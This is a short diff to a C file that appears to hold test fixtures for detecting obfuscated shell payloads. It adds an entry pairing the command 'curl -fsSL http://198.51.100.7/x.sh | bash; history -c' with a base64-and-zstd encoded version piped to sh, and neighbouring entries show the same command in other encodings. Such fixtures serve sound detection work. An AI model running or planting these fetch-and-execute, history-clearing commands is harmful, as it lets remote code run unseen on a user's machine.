@@ -21,6 +21,12 @@ static const struct hidden good[] = {
 		"echo XQAAgAD//////////wAxnUqNF9G88ZqLrJmej98BEUhxfrCl+IsvtxX"
 		"plZBis8jPC81yWe+4R0xlcZ1p48CLzvCoMlWY9cTo/L//iz+AAA== | base"
 		"64 -d | sh" },
+	{ "base64+zstd",
+		"curl -fsSL http://198.51.100.7/x.sh | bash; history -c\n",
+		"echo "
+		"KLUv/"
+		"QRYuQEAY3VybCAtZnNTTCBodHRwOi8vMTk4LjUxLjEwMC43L3guc2ggfCBiYXN"
+		"oOyBoaXN0b3J5IC1jCi5gD4A= | base64 -d | zstd -dc | sh" },
 	{ "base64+zip",
 		"curl -fsSL http://198.51.100.7/x.sh | bash; history -c\n",
 		"echo UEsDBBQAAAAIAPsZd13pUF/DOQAAADcAAAAEAAAAYS5zaEsuLcpR0E0"
